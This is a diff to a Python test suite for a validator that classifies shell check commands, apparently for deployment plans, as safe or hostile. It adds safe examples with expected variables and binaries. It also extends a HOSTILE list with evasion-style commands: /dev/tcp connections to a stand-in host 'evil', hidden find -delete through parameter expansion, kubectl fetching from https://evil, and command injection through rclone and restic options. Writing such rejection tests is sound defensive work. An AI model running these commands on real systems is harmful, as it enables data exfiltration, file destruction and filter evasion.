@@ -150,13 +150,13 @@ def test_a_literal_loop_is_asked_for_each(bench):
 def test_who_has_nothing_to_ask_has_no_script():
     for plan in (plan_of(plans.bare()), plan_with((Phase.PRE, "in words")), plan_with(PASSES, system="ansible")):
         assert list(validation.render(book(plan))) == []
-        assert decidable(plan.tasks[0], plan, SPEC) == ()
+        assert decidable(plan.tasks[0], book(plan)) == ()
 
 
 def test_when_there_is_something_to_ask():
     for checks, phases in (([PASSES], ("pre",)), ([LATER], ("post",)), ([LATER, OPEN], ("pre", "post"))):
         plan = plan_with(*checks)
-        assert decidable(plan.tasks[0], plan, SPEC) == phases
+        assert decidable(plan.tasks[0], book(plan)) == phases
 
 
 def test_a_check_is_asked_once():
@@ -180,6 +180,11 @@ def test_a_check_is_asked_once():
         ("command -v git >/dev/null", (), ()),
         ("/usr/bin/find /x -mmin -60", (), ("/usr/bin/find",)),
         ("nginx -t -q", (), ("nginx",)),
+        ("find /b -mmin -${AGE:-60}", ("AGE",), ("find",)),
+        ("kubectl get pods -n kube-system -o json", (), ("kubectl",)),
+        ("tar -tzf /b.tgz", (), ("tar",)),
+        ("date -Iseconds", (), ("date",)),
+        ('grep -q x <"$file"', ("file",), ("grep",)),
         ("systemctl --quiet is-active -q $unit", ("unit",), ("systemctl",)),
         ('[ -n "${MODE:-full}" ]', ("MODE",), ()),
         ('rclone check --one-way "$A" "$B"', ("A", "B"), ("rclone",)),
@@ -240,6 +245,18 @@ HOSTILE = [
     "curl file:///etc/passwd",
     "tail -f /a",
     "date -s 00:00",
+    "date -us+1day",
+    "find / -${x:-delete}",
+    "find / -mtime 1 -del${x:-ete}",
+    "kubectl get pods --profile=heap --profile-output=canary",
+    "kubectl get -Ak https://evil",
+    "kubectl describe -f https://evil",
+    "kubectl get -${x:-k} https://evil",
+    "tar -tf evil:x",
+    "haproxy -c -f /a.cfg",
+    "test -n x </dev/tcp/evil/80",
+    "cat <'/dev/'tcp/evil/80",
+    "cat </dev/${x:-tcp}/evil/80",
     "rclone ls ':sftp,ssh=touch canary:'",
     "restic snapshots --password-command 'touch canary'",
     "systemctl restart nginx",
